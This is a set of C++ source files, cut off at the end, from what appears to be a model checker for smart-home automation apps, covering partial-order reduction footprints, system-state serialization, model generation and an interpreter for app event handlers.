      return it == device_events_.end() ? empty_.direct : it->second.direct;
    }
    case devices::EventSource::kLocationMode:
      return mode_event_.direct;
    case devices::EventSource::kAppTouch: {
      auto it = touch_events_.find(event.app);
      return it == touch_events_.end() ? empty_.direct : it->second.direct;
    }
    case devices::EventSource::kTimer: {
      auto it = timer_events_.find(std::make_pair(event.app, event.timer));
      return it == timer_events_.end() ? empty_.direct : it->second.direct;
    }
  }
  return empty_.direct;
}

const DispatchFootprint& FootprintIndex::ConeFor(
    const devices::Event& event) const {
  switch (event.source) {
    case devices::EventSource::kDevice: {
      auto it = device_events_.find(std::make_pair(event.device, event.attribute));
      return it == device_events_.end() ? empty_.cone : it->second.cone;
    }
    case devices::EventSource::kLocationMode:
      return mode_event_.cone;
    case devices::EventSource::kAppTouch: {
      auto it = touch_events_.find(event.app);
      return it == touch_events_.end() ? empty_.cone : it->second.cone;
    }
    case devices::EventSource::kTimer: {
      auto it = timer_events_.find(std::make_pair(event.app, event.timer));
      return it == timer_events_.end() ? empty_.cone : it->second.cone;
    }
  }
  return empty_.cone;
}

int FootprintIndex::PickAmple(const std::deque<devices::Event>& queue,
                              int depth, int cascade_bound,
                              Fallback& reason) const {
  reason = Fallback::kNone;
  if (queue.size() <= 1) return queue.empty() ? -1 : 0;
  // Proviso: near the cascade bound a reduced expansion could truncate a
  // different prefix than the full one; disable the reduction there.
  if (depth + static_cast<int>(queue.size()) >= cascade_bound) {
    reason = Fallback::kDepth;
    return -1;
  }
  Fallback first_fail = Fallback::kNone;
  for (std::size_t i = 0; i < queue.size(); ++i) {
    const DispatchFootprint& fp = DispatchFor(queue[i]);
    // A no-op dispatch (no subscribers, no state) commutes with anything,
    // including unknown footprints.
    if (fp.IsNoOp()) return static_cast<int>(i);
    Fallback fail = Fallback::kNone;
    if (fp.unknown) {
      fail = Fallback::kUnknown;
    } else if (fp.visible) {
      fail = Fallback::kVisible;
    } else {
      for (std::size_t j = 0; j < queue.size() && fail == Fallback::kNone;
           ++j) {
        if (j == i) continue;
        const DispatchFootprint& cone = ConeFor(queue[j]);
        if (cone.unknown) {
          fail = Fallback::kUnknown;
        } else if (fp.writes.Intersects(cone.reads) ||
                   fp.writes.Intersects(cone.writes) ||
                   fp.reads.Intersects(cone.writes)) {
          fail = Fallback::kConflict;
        }
      }
    }
    if (fail == Fallback::kNone) return static_cast<int>(i);
    if (first_fail == Fallback::kNone) first_fail = fail;
  }
  reason = first_fail;
  return -1;
}

}  // namespace iotsan::model
