// Concrete dispatch footprints for ample-set partial-order reduction.
//
// The concurrent design (paper §8, Table 7b) expands every interleaving
// of the pending event queue — a factorial blow-up.  Most pending
// dispatches commute: their handlers read and write disjoint slices of
// the system state.  FootprintIndex resolves the pattern-level handler
// footprints (deps/handler_footprint.*) against a concrete SystemModel
// into slot sets over
//
//   * one slot per (device, attribute) pair (cyber + physical),
//   * one slot for the location mode,
//   * one slot per app's persistent `state` map,
//   * one shared slot for the pending-timer list,
//
// and answers the ample-set question at each expansion: is there a
// pending event whose dispatch commutes with every other pending
// dispatch *and* everything those dispatches can transitively enqueue
// (their trigger cones)?  If so, expanding that singleton preserves all
// reachable drained states; otherwise the engine falls back to the full
// interleaving fan-out, so verdicts stay sound.
#pragma once

#include <cstdint>
#include <deque>
#include <map>
#include <vector>

#include "devices/event.hpp"
#include "model/system_model.hpp"

namespace iotsan::model {

/// A fixed-width bitset over state slots.
class SlotSet {
 public:
  SlotSet() = default;
  explicit SlotSet(int slot_count)
      : words_(static_cast<std::size_t>((slot_count + 63) / 64), 0) {}

  void Add(int slot) {
    words_[static_cast<std::size_t>(slot) / 64] |=
        std::uint64_t{1} << (static_cast<std::size_t>(slot) % 64);
  }
  bool UnionWith(const SlotSet& other);  // returns true if changed
  bool Intersects(const SlotSet& other) const;
  bool Empty() const;

 private:
  std::vector<std::uint64_t> words_;
};

/// Read/write footprint of dispatching one queued event (the union over
/// the handlers the dispatch invokes).
struct DispatchFootprint {
  SlotSet reads;
  SlotSet writes;
  /// Write set not statically boundable (dynamic discovery, unresolvable
  /// binding, unknown handler) — conflicts with everything.
  bool unknown = false;
  /// Writes a slot a selected invariant observes (role-carrying device
  /// attribute, or the mode when the property references it).
  bool visible = false;

  bool IsNoOp() const {
    return !unknown && !visible && reads.Empty() && writes.Empty();
  }
};

class FootprintIndex {
 public:
  /// Why PickAmple declined to reduce.
  enum class Fallback { kNone, kUnknown, kVisible, kConflict, kDepth };

  /// Precomputes per-event dispatch footprints and trigger cones.  Call
  /// after SelectProperties so visibility reflects the active invariants.
  explicit FootprintIndex(const SystemModel& model);

  /// Returns the index of an ample singleton in `queue`, or -1 when the
  /// engine must expand the full fan-out (`reason` says why).  `depth` and
  /// `cascade_bound` feed the proviso: near the cascade bound the
  /// reduction is disabled so truncation behaves identically to the
  /// unreduced search.  Deterministic: always the first eligible index.
  int PickAmple(const std::deque<devices::Event>& queue, int depth,
                int cascade_bound, Fallback& reason) const;

  /// Direct footprint of dispatching `event` (empty footprint when the
  /// event has no subscribers).
  const DispatchFootprint& DispatchFor(const devices::Event& event) const;
  /// Footprint of the dispatch plus everything it can transitively
  /// enqueue within the cascade.
  const DispatchFootprint& ConeFor(const devices::Event& event) const;

 private:
  struct EventFootprints {
    DispatchFootprint direct;
    DispatchFootprint cone;
  };

  int SlotOf(int device, int attribute) const;
  int HandlerIndexOf(int app, const std::string& name) const;
  void ResolveHandler(int app, int handler);

  const SystemModel& model_;
  int slot_count_ = 0;
  std::vector<int> device_slot_base_;
  int mode_slot_ = 0;
  int app_slot_base_ = 0;
  int timers_slot_ = 0;
  /// Slots a selected invariant observes.
  SlotSet visible_slots_;

  /// Per-handler resolved footprints, keyed (app, handler index); cones
  /// computed by fixpoint over the trigger edges.
  std::vector<std::vector<DispatchFootprint>> handler_fp_;
  std::vector<std::vector<DispatchFootprint>> handler_cone_;
  /// Trigger edges: handler -> handlers its outputs can enqueue.
  std::vector<std::vector<std::vector<std::pair<int, int>>>> triggers_;

  /// Event-identity tables (value-insensitive: the union over subscriber
  /// value filters, a sound over-approximation).
  std::map<std::pair<int, int>, EventFootprints> device_events_;
  EventFootprints mode_event_;
  std::map<int, EventFootprints> touch_events_;
  std::map<std::pair<int, int>, EventFootprints> timer_events_;
  EventFootprints empty_;
};

}  // namespace iotsan::model
