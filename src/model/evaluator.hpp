// SmartScript evaluator: executes app event handlers over the system
// state.
//
// This is the C++ equivalent of running the paper's generated Promela
// model: each handler invocation is atomic (§8's concurrency argument),
// reads device state from the SystemState, and produces actuator
// commands, mode changes, timers, messages, and new cyber events.
#pragma once

#include <deque>
#include <string>

#include "devices/event.hpp"
#include "model/runtime.hpp"
#include "model/state.hpp"
#include "model/system_model.hpp"

namespace iotsan::model {

class Evaluator {
 public:
  /// `queue` receives the cyber events the handler generates (actuator
  /// state updates, mode changes, synthetic events); `log` accumulates
  /// commands/API calls/trace lines; `failure` is the cascade's failure
  /// scenario.
  Evaluator(const SystemModel& model, SystemState& state,
            std::deque<devices::Event>& queue, CascadeLog& log,
            const FailureScenario& failure);

  /// Invokes `method` of app `app`, passing `event` (may be null for
  /// timer fires) as the handler's parameter.  Throws iotsan::Error on
  /// runtime errors (step budget exceeded, state-map misuse).
  void InvokeHandler(int app, const std::string& method,
                     const devices::Event* event);

  /// Evaluation step budget per handler invocation; generous for real
  /// apps, small enough to cut off accidental unbounded loops.
  static constexpr int kStepBudget = 100000;

 private:
  struct Impl;
  const SystemModel& model_;
  SystemState& state_;
  std::deque<devices::Event>& queue_;
  CascadeLog& log_;
  const FailureScenario& failure_;
};

}  // namespace iotsan::model
