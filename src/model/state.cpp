#include "model/state.hpp"

#include "util/error.hpp"

namespace iotsan::model {

namespace {

void PutU16(std::vector<std::uint8_t>& out, std::uint16_t v) {
  out.push_back(static_cast<std::uint8_t>(v & 0xFF));
  out.push_back(static_cast<std::uint8_t>(v >> 8));
}

void PutString(std::vector<std::uint8_t>& out, const std::string& s) {
  PutU16(out, static_cast<std::uint16_t>(s.size()));
  out.insert(out.end(), s.begin(), s.end());
}

void PutScalar(std::vector<std::uint8_t>& out, const Value& v) {
  switch (v.kind()) {
    case Value::Kind::kNull:
      out.push_back(0);
      break;
    case Value::Kind::kBool:
      out.push_back(1);
      out.push_back(v.AsBool() ? 1 : 0);
      break;
    case Value::Kind::kNumber: {
      out.push_back(2);
      const double d = v.AsNumber();
      const auto* bytes = reinterpret_cast<const std::uint8_t*>(&d);
      out.insert(out.end(), bytes, bytes + sizeof(double));
      break;
    }
    case Value::Kind::kString:
      out.push_back(3);
      PutString(out, v.AsString());
      break;
    default:
      throw Error(
          "app `state` may only hold scalar values (null/bool/number/"
          "string); got " + v.ToDisplayString());
  }
}

}  // namespace

void SystemState::SerializeDeviceTo(int device,
                                    std::vector<std::uint8_t>& out) const {
  const devices::State& d = devices[static_cast<std::size_t>(device)];
  out.push_back(d.online ? 1 : 0);
  for (std::int16_t value : d.values) {
    PutU16(out, static_cast<std::uint16_t>(value));
  }
  for (std::int16_t value : d.physical) {
    PutU16(out, static_cast<std::uint16_t>(value));
  }
}

void SystemState::SerializeModeTo(std::vector<std::uint8_t>& out) const {
  PutU16(out, static_cast<std::uint16_t>(mode));
}

void SystemState::SerializeAppStateTo(int app,
                                      std::vector<std::uint8_t>& out) const {
  const auto& state_map = app_state[static_cast<std::size_t>(app)];
  PutU16(out, static_cast<std::uint16_t>(state_map.size()));
  for (const auto& [key, value] : state_map) {  // std::map: sorted keys
    PutString(out, key);
    PutScalar(out, value);
  }
}

void SystemState::SerializeTimersTo(std::vector<std::uint8_t>& out) const {
  PutU16(out, static_cast<std::uint16_t>(timers.size()));
  for (const TimerEntry& timer : timers) {
    PutU16(out, static_cast<std::uint16_t>(timer.app));
    PutU16(out, static_cast<std::uint16_t>(timer.schedule));
  }
}

void SystemState::SerializeTo(std::vector<std::uint8_t>& out) const {
  for (int i = 0; i < static_cast<int>(devices.size()); ++i) {
    SerializeDeviceTo(i, out);
  }
  SerializeModeTo(out);
  for (int i = 0; i < static_cast<int>(app_state.size()); ++i) {
    SerializeAppStateTo(i, out);
  }
  SerializeTimersTo(out);
}

std::vector<std::uint8_t> SystemState::Serialize() const {
  std::vector<std::uint8_t> out;
  out.reserve(64);
  SerializeTo(out);
  return out;
}

}  // namespace iotsan::model
