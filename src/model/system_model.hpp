// The Model Generator (paper §8): composes analyzed apps, the deployment
// configuration, and safety properties into a checkable system model.
//
// Responsibilities (mirroring the paper):
//   * model devices per their specifications (event queue + notifiers),
//   * model the platform (subscription registration, location mode,
//     timers),
//   * resolve each app's `input` declarations against the configuration,
//   * bind the applicable safety properties via device roles.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "config/deployment.hpp"
#include "devices/device.hpp"
#include "devices/event.hpp"
#include "ir/analyzed_app.hpp"
#include "model/state.hpp"
#include "model/value.hpp"
#include "props/property.hpp"

namespace iotsan::model {

/// A subscription resolved against concrete devices.
struct ResolvedSubscription {
  ir::EventScope scope = ir::EventScope::kDevice;
  int device = -1;     // kDevice: device table index
  int attribute = -1;  // kDevice: attribute index within the device
  int value = -1;      // required value index; -1 = any
  int mode = -1;       // kLocationMode: required mode index; -1 = any
  int app = 0;
  std::string handler;
};

/// One installed app with its resolved configuration.
struct InstalledApp {
  ir::AnalyzedApp analysis;
  config::AppConfig config;
  /// Input name -> runtime value (Device / List of Device / Number /
  /// String / Bool).
  std::map<std::string, Value> bindings;
  bool touchable = false;  // subscribes to app touch
};

/// External events the checker enumerates (Algorithm 1's "permutation
/// space").  Sensor events expand to every domain value of the attribute.
struct ExternalEventSpec {
  enum class Kind { kSensor, kAppTouch, kTimerTick, kUserModeChange };
  Kind kind = Kind::kSensor;
  int device = -1;     // kSensor
  int attribute = -1;  // kSensor
  int app = -1;        // kAppTouch
};

/// Model-generation knobs.
struct ModelOptions {
  /// Enumerate every sensor attribute of every device, instead of only
  /// the (device, attribute) pairs some installed app observes.  Used by
  /// the Output Analyzer when attributing a single app (§9), where the
  /// permutation space must not shrink to the app's own subscriptions.
  bool all_sensor_events = false;
  /// Model the user switching the location mode in the companion app as
  /// an external event (enabled when some app subscribes to mode
  /// changes).
  bool user_mode_events = false;
  /// EXTENSION (the paper's §10.1/§11 future work): support apps that
  /// discover devices dynamically.  getAllDevices() & friends return the
  /// deployment's full device list at run time, and such apps'
  /// handlers carry conservative wildcard outputs in the dependency
  /// graph.  Off by default — the paper rejects these apps.
  bool dynamic_discovery = false;
};

class SystemModel {
 public:
  /// Builds the model.  Apps in `deployment.apps` are resolved against
  /// `analyzed` by app name.  Throws iotsan::ConfigError on unresolvable
  /// bindings, missing required inputs, or apps using dynamic device
  /// discovery (unsupported, paper §11).
  SystemModel(config::Deployment deployment,
              std::vector<ir::AnalyzedApp> analyzed,
              const ModelOptions& options = {});

  const config::Deployment& deployment() const { return deployment_; }
  const ModelOptions& options() const { return options_; }
  const std::vector<devices::Device>& devices() const { return devices_; }
  const std::vector<InstalledApp>& apps() const { return apps_; }
  const std::vector<ResolvedSubscription>& subscriptions() const {
    return subscriptions_;
  }
  const std::vector<std::string>& modes() const { return deployment_.modes; }

  int DeviceIndex(const std::string& id) const;

  /// Subscriptions matching a device event / mode change / app touch.
  std::vector<const ResolvedSubscription*> Subscribers(
      const devices::Event& event) const;

  /// The initial state: all devices at their first domain values, mode 0,
  /// empty app state, no timers.
  SystemState MakeInitialState() const;

  /// External events the checker enumerates.  Sensor events cover
  /// exactly the (device, attribute) pairs some installed app observes —
  /// the permutation space of Algorithm 1.  When `all_sensor_attributes`
  /// is set, every sensor attribute of every device is enumerated instead.
  const std::vector<ExternalEventSpec>& external_events() const {
    return external_events_;
  }

  /// Selects the safety properties to verify; by default every built-in
  /// property applicable to this deployment (all referenced roles
  /// present).  Returns the number of active invariants.
  int SelectProperties(const std::vector<props::Property>& properties);
  const std::vector<props::Property>& active_properties() const {
    return active_properties_;
  }

  /// Sum of event-handler counts across installed apps (reporting).
  int TotalHandlerCount() const;

 private:
  config::Deployment deployment_;
  ModelOptions options_;
  std::vector<devices::Device> devices_;
  std::vector<InstalledApp> apps_;
  std::vector<ResolvedSubscription> subscriptions_;
  std::vector<ExternalEventSpec> external_events_;
  std::vector<props::Property> active_properties_;

  void BuildDevices();
  void ResolveApps(std::vector<ir::AnalyzedApp> analyzed);
  void ResolveBindings(InstalledApp& app);
  void ResolveSubscriptions();
  void BuildExternalEvents();
};

}  // namespace iotsan::model
