// Shared runtime records for cascade execution (paper §8, Algorithm 1).
#pragma once

#include <string>
#include <vector>

#include "devices/capability.hpp"

namespace iotsan::model {

/// Failure scenario applied to one external-event cascade, modeling
/// natural or induced device/communication failures (§8): the sensor may
/// be offline when the physical event occurs; actuators may be offline;
/// hub<->device communication may fail.
struct FailureScenario {
  bool sensor_offline = false;
  bool actuator_offline = false;
  bool comm_fail = false;

  bool Any() const { return sensor_offline || actuator_offline || comm_fail; }
  std::string Label() const;

  /// The scenarios enumerated per external event when failure modeling is
  /// enabled: no-failure plus each single-failure case.
  static const std::vector<FailureScenario>& AllScenarios();
  static const std::vector<FailureScenario>& NoFailure();
};

/// One actuator command received during a cascade.  The conflicting- and
/// repeated-command monitors (§8) run over this list.
struct CommandRecord {
  int app = 0;
  std::string handler;
  int device = -1;
  const devices::CommandSpec* spec = nullptr;
  int value_index = -1;    // resolved target value
  bool delivered = true;   // false when the actuator was offline / comm failed
  bool state_changed = false;
  int line = 0;            // source line in the app (for traces)
};

/// One message/network/security-sensitive API call observed during a
/// cascade (leakage and suspicious-behaviour monitors, §3/§8).
struct ApiCallRecord {
  enum class Kind { kSms, kPush, kHttp, kUnsubscribe, kFakeEvent };
  Kind kind = Kind::kSms;
  int app = 0;
  std::string detail;      // recipient / URL / event description
  bool recipient_mismatch = false;
  int line = 0;
};

/// One app event-handler invocation during a cascade, in dispatch order.
/// The structured counter-example traces (checker/trace.hpp) report these
/// as the "firing handler" sequence of each step.
struct HandlerDispatch {
  int app = 0;
  std::string handler;
};

/// Everything observed while processing one external event.
struct CascadeLog {
  std::vector<CommandRecord> commands;
  std::vector<ApiCallRecord> api_calls;
  std::vector<HandlerDispatch> dispatches;
  /// Counter-example trace lines in the paper's Fig. 7 style.
  std::vector<std::string> trace;
  /// (app, device) pairs for every actuation attempt this cascade; used
  /// by the Output Analyzer to charge violations to the apps that drove
  /// the devices a property talks about.
  std::vector<std::pair<int, int>> actuations;
  /// Apps that changed the location mode this cascade.
  std::vector<int> mode_setters;
  int failed_deliveries = 0;
  bool user_notified = false;  // an SMS/push reached the user
  bool truncated = false;      // cascade exceeded the internal event bound
  /// Deepest the pending cyber-event queue got while draining this
  /// cascade (a congestion signal for the structured traces).
  int max_queue_depth = 0;
};

}  // namespace iotsan::model
