#include "model/evaluator.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <cstdlib>

#include "dsl/parser.hpp"
#include "dsl/printer.hpp"
#include "util/error.hpp"
#include "util/strings.hpp"

namespace iotsan::model {

namespace {

using dsl::BinaryOp;
using dsl::Expr;
using dsl::ExprKind;
using dsl::Stmt;
using dsl::StmtKind;

/// Thrown to unwind to the enclosing method on `return`.
struct ReturnSignal {
  Value value;
};

class Interp {
 public:
  Interp(const SystemModel& model, SystemState& state,
         std::deque<devices::Event>& queue, CascadeLog& log,
         const FailureScenario& failure, int app_index)
      : model_(model),
        state_(state),
        queue_(queue),
        log_(log),
        failure_(failure),
        app_index_(app_index),
        app_(model.apps()[app_index]) {}

  void Invoke(const std::string& method_name, const devices::Event* event) {
    const dsl::MethodDecl* method = app_.analysis.app.FindMethod(method_name);
    if (method == nullptr) {
      throw SemanticError("app '" + app_.config.label +
                          "' has no handler '" + method_name + "'");
    }
    ValueList args;
    if (!method->params.empty()) {
      args.push_back(event != nullptr ? MakeEventValue(*event)
                                      : Value::Null());
    }
    CallMethod(*method, args);
  }

 private:
  const SystemModel& model_;
  SystemState& state_;
  std::deque<devices::Event>& queue_;
  CascadeLog& log_;
  const FailureScenario& failure_;
  int app_index_;
  const InstalledApp& app_;
  std::vector<std::map<std::string, Value>> scopes_;
  int steps_ = 0;
  const dsl::MethodDecl* current_method_ = nullptr;

  void Budget() {
    if (++steps_ > Evaluator::kStepBudget) {
      throw Error("app '" + app_.config.label +
                  "': evaluation step budget exceeded (unbounded loop?)");
    }
  }

  [[noreturn]] void Fail(int line, const std::string& message) {
    throw SemanticError(app_.analysis.app.source_name + ":" +
                        std::to_string(line) + ": " + message);
  }

  void Trace(int line, const std::string& code) {
    log_.trace.push_back(app_.analysis.app.source_name + ":" +
                         std::to_string(line) + "\t[" + code + "]");
  }

  // ---- Event objects ------------------------------------------------------

  Value MakeEventValue(const devices::Event& event) {
    ValueMap fields;
    switch (event.source) {
      case devices::EventSource::kDevice: {
        const devices::Device& device = model_.devices()[event.device];
        const devices::AttributeSpec& attr =
            *device.attributes()[event.attribute];
        fields["name"] = Value::String(attr.name);
        fields["value"] = Value::String(attr.ValueName(event.value));
        if (attr.kind == devices::AttributeKind::kNumeric) {
          fields["numericValue"] =
              Value::Number(attr.NumericAt(event.value));
          fields["doubleValue"] = fields["numericValue"];
          fields["integerValue"] = fields["numericValue"];
        }
        fields["device"] = Value::Device(event.device);
        fields["deviceId"] = Value::String(device.id());
        fields["displayName"] = Value::String(device.id());
        break;
      }
      case devices::EventSource::kLocationMode:
        fields["name"] = Value::String("mode");
        fields["value"] = Value::String(model_.modes()[event.value]);
        break;
      case devices::EventSource::kAppTouch:
        fields["name"] = Value::String("touch");
        fields["value"] = Value::String("touched");
        break;
      case devices::EventSource::kTimer:
        fields["name"] = Value::String("timer");
        fields["value"] = Value::String("fired");
        break;
    }
    fields["isStateChange"] = Value::Bool(true);
    fields["descriptionText"] =
        Value::String(fields["name"].ToDisplayString() + " is " +
                      fields["value"].ToDisplayString());
    return Value::Map(std::move(fields));
  }

  // ---- Environment ---------------------------------------------------------

  Value CallMethod(const dsl::MethodDecl& method, const ValueList& args) {
    const dsl::MethodDecl* saved_method = current_method_;
    const std::size_t saved_depth = scopes_.size();
    if (saved_depth > 64) {
      throw Error("app '" + app_.config.label + "': call depth exceeded");
    }
    current_method_ = &method;
    scopes_.emplace_back();
    for (std::size_t i = 0; i < method.params.size(); ++i) {
      scopes_.back()[method.params[i]] =
          i < args.size() ? args[i] : Value::Null();
    }
    Value result;
    try {
      result = ExecBody(method.body);
    } catch (const ReturnSignal& ret) {
      result = ret.value;
    }
    scopes_.resize(saved_depth);
    current_method_ = saved_method;
    return result;
  }

  Value* FindVariable(const std::string& name) {
    for (auto it = scopes_.rbegin(); it != scopes_.rend(); ++it) {
      auto found = it->find(name);
      if (found != it->end()) return &found->second;
    }
    return nullptr;
  }

  // ---- Statements -----------------------------------------------------------

  /// Executes a body; the value of the trailing expression statement is
  /// the Groovy implicit return value.
  Value ExecBody(const std::vector<dsl::StmtPtr>& body) {
    Value last;
    for (std::size_t i = 0; i < body.size(); ++i) {
      last = ExecStmt(*body[i]);
      if (i + 1 < body.size()) last = Value::Null();
    }
    return last;
  }

  Value ExecStmt(const Stmt& stmt) {
    Budget();
    switch (stmt.kind) {
      case StmtKind::kExpr:
        return Eval(*stmt.expr);
      case StmtKind::kVarDecl: {
        Value init = stmt.expr ? Eval(*stmt.expr) : Value::Null();
        scopes_.back()[stmt.name] = std::move(init);
        return Value::Null();
      }
      case StmtKind::kIf: {
        if (Eval(*stmt.expr).Truthy()) {
          scopes_.emplace_back();
          Value v = ExecBody(stmt.body);
          scopes_.pop_back();
          return v;
        }
        scopes_.emplace_back();
        Value v = ExecBody(stmt.else_body);
        scopes_.pop_back();
        return v;
      }
      case StmtKind::kReturn:
        throw ReturnSignal{stmt.expr ? Eval(*stmt.expr) : Value::Null()};
      case StmtKind::kForIn: {
        Value iterable = Eval(*stmt.expr);
        if (!iterable.is_list()) {
          if (iterable.is_null()) return Value::Null();
          Fail(stmt.line, "for-in expects a list");
        }
        scopes_.emplace_back();
        for (const Value& item : iterable.AsList()) {
          Budget();
          scopes_.back()[stmt.name] = item;
          ExecBody(stmt.body);
        }
        scopes_.pop_back();
        return Value::Null();
      }
      case StmtKind::kWhile: {
        scopes_.emplace_back();
        while (Eval(*stmt.expr).Truthy()) {
          Budget();
          ExecBody(stmt.body);
        }
        scopes_.pop_back();
        return Value::Null();
      }
      case StmtKind::kBlock: {
        scopes_.emplace_back();
        Value v = ExecBody(stmt.body);
        scopes_.pop_back();
        return v;
      }
    }
    return Value::Null();
  }

  // ---- Expressions ------------------------------------------------------------

  Value Eval(const Expr& expr) {
    Budget();
    switch (expr.kind) {
      case ExprKind::kNullLit:
        return Value::Null();
      case ExprKind::kBoolLit:
        return Value::Bool(expr.bool_value);
      case ExprKind::kNumberLit:
        return Value::Number(expr.number_value);
      case ExprKind::kStringLit:
        return Value::String(Interpolate(expr.text));
      case ExprKind::kListLit: {
        ValueList items;
        items.reserve(expr.items.size());
        for (const dsl::ExprPtr& item : expr.items) {
          items.push_back(Eval(*item));
        }
        return Value::List(std::move(items));
      }
      case ExprKind::kMapLit: {
        ValueMap entries;
        for (const dsl::NamedArg& entry : expr.named) {
          entries[entry.name] = Eval(*entry.value);
        }
        return Value::Map(std::move(entries));
      }
      case ExprKind::kIdent:
        return EvalIdent(expr);
      case ExprKind::kBinary:
        return EvalBinary(expr);
      case ExprKind::kUnary: {
        Value operand = Eval(*expr.a);
        if (expr.unary_op == dsl::UnaryOp::kNot) {
          return Value::Bool(!operand.Truthy());
        }
        if (!operand.is_number()) Fail(expr.line, "unary '-' needs a number");
        return Value::Number(-operand.AsNumber());
      }
      case ExprKind::kTernary: {
        Value cond = Eval(*expr.a);
        if (!expr.b) {  // elvis
          return cond.Truthy() ? cond : Eval(*expr.c);
        }
        return cond.Truthy() ? Eval(*expr.b) : Eval(*expr.c);
      }
      case ExprKind::kCall:
        return EvalCall(expr);
      case ExprKind::kMember:
        return EvalMember(expr);
      case ExprKind::kIndex: {
        Value recv = Eval(*expr.a);
        Value index = Eval(*expr.b);
        if (recv.is_list()) {
          if (!index.is_number()) Fail(expr.line, "list index must be a number");
          const auto i = static_cast<std::size_t>(index.AsNumber());
          if (i >= recv.AsList().size()) return Value::Null();
          return recv.AsList()[i];
        }
        if (recv.is_map()) {
          auto it = recv.AsMap().find(index.ToDisplayString());
          return it != recv.AsMap().end() ? it->second : Value::Null();
        }
        if (recv.is_null()) return Value::Null();
        Fail(expr.line, "indexing needs a list or map");
      }
      case ExprKind::kClosure:
        return Value::Closure(&expr);
      case ExprKind::kAssign:
        return EvalAssign(expr);
    }
    return Value::Null();
  }

  /// GString interpolation: replaces ${name} / ${simple.expr} with the
  /// evaluated value.
  std::string Interpolate(const std::string& text) {
    if (text.find("${") == std::string::npos) return text;
    std::string out;
    std::size_t pos = 0;
    while (pos < text.size()) {
      std::size_t start = text.find("${", pos);
      if (start == std::string::npos) {
        out += text.substr(pos);
        break;
      }
      out += text.substr(pos, start - pos);
      std::size_t end = text.find('}', start);
      if (end == std::string::npos) {
        out += text.substr(start);
        break;
      }
      const std::string inner = text.substr(start + 2, end - start - 2);
      try {
        dsl::ExprPtr parsed = dsl::ParseExpression(inner);
        out += Eval(*parsed).ToDisplayString();
      } catch (const Error&) {
        out += "${" + inner + "}";  // leave unparseable fragments verbatim
      }
      pos = end + 1;
    }
    return out;
  }

  Value EvalIdent(const Expr& expr) {
    const std::string& name = expr.text;
    if (Value* local = FindVariable(name)) return *local;
    auto binding = app_.bindings.find(name);
    if (binding != app_.bindings.end()) return binding->second;
    if (name == "state") {
      return Value::Map(state_.app_state[app_index_]);
    }
    if (name == "location" || name == "app" || name == "log" ||
        name == "Math" || name == "settings") {
      // Platform objects: handled structurally by member/call evaluation.
      return Value::String("<" + name + ">");
    }
    // Groovy resolves unknown names to null-ish bindings; surface a
    // diagnostic instead — apps in the corpus must be fully resolved.
    Fail(expr.line, "unknown identifier '" + name + "'");
  }

  Value EvalBinary(const Expr& expr) {
    if (expr.binary_op == BinaryOp::kAnd) {
      return Value::Bool(Eval(*expr.a).Truthy() && Eval(*expr.b).Truthy());
    }
    if (expr.binary_op == BinaryOp::kOr) {
      return Value::Bool(Eval(*expr.a).Truthy() || Eval(*expr.b).Truthy());
    }
    Value lhs = Eval(*expr.a);
    Value rhs = Eval(*expr.b);
    switch (expr.binary_op) {
      case BinaryOp::kAdd:
        if (lhs.is_list()) {
          ValueList joined = lhs.AsList();
          if (rhs.is_list()) {
            joined.insert(joined.end(), rhs.AsList().begin(),
                          rhs.AsList().end());
          } else if (!rhs.is_null()) {
            joined.push_back(rhs);
          }
          return Value::List(std::move(joined));
        }
        if (lhs.is_string() || rhs.is_string()) {
          return Value::String(lhs.ToDisplayString() + rhs.ToDisplayString());
        }
        if (lhs.is_number() && rhs.is_number()) {
          return Value::Number(lhs.AsNumber() + rhs.AsNumber());
        }
        Fail(expr.line, "invalid operands to '+'");
      case BinaryOp::kSub:
      case BinaryOp::kMul:
      case BinaryOp::kDiv:
      case BinaryOp::kMod: {
        if (!lhs.is_number() || !rhs.is_number()) {
          Fail(expr.line, "arithmetic needs numbers");
        }
        const double a = lhs.AsNumber();
        const double b = rhs.AsNumber();
        switch (expr.binary_op) {
          case BinaryOp::kSub: return Value::Number(a - b);
          case BinaryOp::kMul: return Value::Number(a * b);
          case BinaryOp::kDiv:
            if (b == 0) Fail(expr.line, "division by zero");
            return Value::Number(a / b);
          default:
            if (b == 0) Fail(expr.line, "modulo by zero");
            return Value::Number(std::fmod(a, b));
        }
      }
      case BinaryOp::kEq:
        return Value::Bool(lhs.Equals(rhs));
      case BinaryOp::kNe:
        return Value::Bool(!lhs.Equals(rhs));
      case BinaryOp::kLt:
      case BinaryOp::kLe:
      case BinaryOp::kGt:
      case BinaryOp::kGe: {
        double a = 0, b = 0;
        if (lhs.is_number() && rhs.is_number()) {
          a = lhs.AsNumber();
          b = rhs.AsNumber();
        } else if (lhs.is_string() && rhs.is_string()) {
          const int cmp = lhs.AsString().compare(rhs.AsString());
          a = cmp;
          b = 0;
        } else {
          Fail(expr.line, "invalid comparison operands");
        }
        switch (expr.binary_op) {
          case BinaryOp::kLt: return Value::Bool(a < b);
          case BinaryOp::kLe: return Value::Bool(a <= b);
          case BinaryOp::kGt: return Value::Bool(a > b);
          default: return Value::Bool(a >= b);
        }
      }
      case BinaryOp::kIn: {
        if (rhs.is_list()) {
          for (const Value& item : rhs.AsList()) {
            if (item.Equals(lhs)) return Value::Bool(true);
          }
          return Value::Bool(false);
        }
        if (rhs.is_map()) {
          return Value::Bool(rhs.AsMap().count(lhs.ToDisplayString()) > 0);
        }
        if (rhs.is_string() && lhs.is_string()) {
          return Value::Bool(rhs.AsString().find(lhs.AsString()) !=
                             std::string::npos);
        }
        Fail(expr.line, "'in' needs a list, map, or string on the right");
      }
      default:
        Fail(expr.line, "unsupported binary operator");
    }
  }

  Value EvalAssign(const Expr& expr) {
    Value value = Eval(*expr.b);
    const Expr& target = *expr.a;

    auto combine = [&](const Value& old) -> Value {
      if (expr.assign_op == dsl::AssignOp::kAssign) return value;
      if (!old.is_number() || !value.is_number()) {
        Fail(expr.line, "+=/-= need numbers");
      }
      return Value::Number(expr.assign_op == dsl::AssignOp::kAddAssign
                               ? old.AsNumber() + value.AsNumber()
                               : old.AsNumber() - value.AsNumber());
    };

    if (target.kind == ExprKind::kIdent) {
      if (Value* slot = FindVariable(target.text)) {
        *slot = combine(*slot);
        return *slot;
      }
      // Undeclared: bind in the current scope (Groovy script binding).
      Value result = combine(Value::Null());
      scopes_.back()[target.text] = result;
      return result;
    }

    if (target.kind == ExprKind::kMember) {
      // state.foo = v  — persistent app state.
      if (target.a->kind == ExprKind::kIdent && target.a->text == "state") {
